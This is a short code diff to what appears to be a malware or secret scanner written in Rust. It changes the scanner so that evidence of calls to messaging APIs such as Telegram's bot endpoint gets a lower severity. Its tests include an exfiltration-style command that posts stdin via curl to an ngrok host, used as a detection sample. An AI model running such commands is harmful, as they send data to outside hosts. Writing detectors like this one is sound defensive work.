@@ -205,7 +205,7 @@ pub(crate) fn described(severity: Severity, evidence: &str) -> Severity {
     let live = net::URL
         .find_iter(evidence)
         .filter_map(|m| net::host(m.as_str()))
-        .any(|h| collector(&h));
+        .any(|h| collector(&h) && !net::is_messaging_api(&h));
     if live {
         return severity;
     }
@@ -349,6 +349,10 @@ mod tests {
         assert_eq!(
             described(Severity::Critical, "curl -d @- https://x.ngrok.io"),
             Severity::Critical
+        );
+        assert_eq!(
+            described(Severity::Medium, "fetch('https://api.telegram.org/bot')"),
+            Severity::Low
         );
         assert_eq!(secret_assignment("references/auth.md"), Severity::Low);
         assert_eq!(secret_assignment("scripts/config.py"), Severity::Medium);
